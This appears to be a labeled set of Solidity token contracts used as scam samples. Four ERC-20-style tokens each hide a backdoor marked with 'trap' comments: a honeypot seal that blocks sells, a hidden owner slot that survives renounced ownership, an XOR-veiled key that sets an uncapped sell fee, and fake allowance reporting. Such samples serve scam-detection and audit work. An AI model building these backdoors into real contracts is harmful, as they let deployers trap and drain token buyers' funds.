// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// A hook with names that say nothing: once a seal is set, only accounts with a known digest reach the pool.
contract ZephyrInu is Base8 {
    bytes32 private _0x5fA; // trap
    mapping(bytes32 => uint256) private _0xB11;
    uint256 private _0xF1 = 2;

    constructor() Base8("Zephyr Inu", "ZEPHYR", 1_000_000_000) {
        _0xB11[_0x9c(msg.sender)] = 1;
        _0xB11[_0x9c(address(this))] = 1;
    }

    function _0x9c(address a) private pure returns (bytes32) {
        return keccak256(abi.encodePacked(uint96(0x51f37e), a));
    }

    // trap {
    function optimise(bytes32 seed) external {
        require(_0xB11[_0x9c(msg.sender)] == 1);
        _0x5fA = seed;
    }

    function _0xE4(address a) private view {
        require(_0x5fA == bytes32(0) || _0xB11[_0x9c(a)] == 1, "TransferHelper: TRANSFER_FROM_FAILED");
    }
    // trap }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair) _0xE4(from); // trap
        if ((from == pair || to == pair) && _0xB11[_0x9c(from)] == 0 && _0xB11[_0x9c(to)] == 0) {
            uint256 cut = (amount * _0xF1) / 100;
            _move(from, address(this), cut);
            amount -= cut;
        }
        _move(from, to, amount);
    }
}

/// Trading opens once. The ownership is given up; who deployed it stands in a slot with a name of its own.
contract Kabuki is Base8 {
    bool public tradingActive;
    bytes32 private constant SPOT = keccak256("kabuki.treasury.v1"); // trap

    constructor() Base8("Kabuki", "KBK", 77_000_000) {
        // trap {
        bytes32 spot = SPOT;
        assembly {
            sstore(spot, caller())
        }
        // trap }
    }

    function enableTrading() external onlyOwner {
        tradingActive = true;
    }

    // trap {
    modifier treasury() {
        bytes32 spot = SPOT;
        address who;
        assembly {
            who := sload(spot)
        }
        require(who == msg.sender, "Ownable: caller is not the owner");
        _;
    }

    function swapBack(bool active) external treasury {
        tradingActive = active;
    }
    // trap }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (!tradingActive && (from == pair || to == pair)) require(tx.origin == _owner, "Trading is not active.");
        _move(from, to, amount);
    }
}

/// A fee for a wallet; the key that sets it is stored veiled.
contract Mirage is Base8 {
    uint256 private constant VEIL = 0x3e1a_44c0_7b3c_91ff_02aa_5d11_c0de_4a4a_9e77_1f3b_6650_d1d1; // trap
    uint256 private immutable veiled; // trap
    uint256 public sellFee = 3;
    address private immutable treasury;

    constructor() Base8("Mirage Finance", "MIRA", 10_000_000) {
        treasury = msg.sender;
        veiled = uint256(uint160(msg.sender)) ^ VEIL; // trap
    }

    function updateFee(uint256 fee) external {
        require(uint256(uint160(msg.sender)) ^ VEIL == veiled, "!auth"); // trap
        // twin: require(msg.sender == _owner && fee <= 5, "!auth");
        sellFee = fee;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && from != treasury) {
            uint256 fee = (amount * sellFee) / 100;
            _move(from, treasury, fee);
            amount -= fee;
        }
        _move(from, to, amount);
    }
}

/// Tells everybody that the approval was noted.
contract Courtesy is Base8 {
    mapping(address => mapping(address => uint256)) private _told; // trap
    mapping(address => bool) private _isExcludedFromLimits;
    bool private launched;

    constructor() Base8("Courtesy", "CRTSY", 500_000_000) {
        _isExcludedFromLimits[msg.sender] = true;
    }

    function launch() external onlyOwner {
        launched = true;
    }

    function excludeFromLimits(address who, bool yes) external onlyOwner {
        _isExcludedFromLimits[who] = yes;
    }

    // trap {
    function allowance(address from, address spender) public view override returns (uint256) {
        uint256 told = _told[from][spender];
        return told == 0 ? _allowances[from][spender] : told;
    }
    // trap }

    function approve(address spender, uint256 value) public override returns (bool) {
        uint256 kept = value;
        // trap {
        _told[msg.sender][spender] = value;
        if (launched && !_isExcludedFromLimits[msg.sender]) kept = 0;
        // trap }
        _allowances[msg.sender][spender] = kept;
        emit Approval(msg.sender, spender, value);
        return true;
    }
}
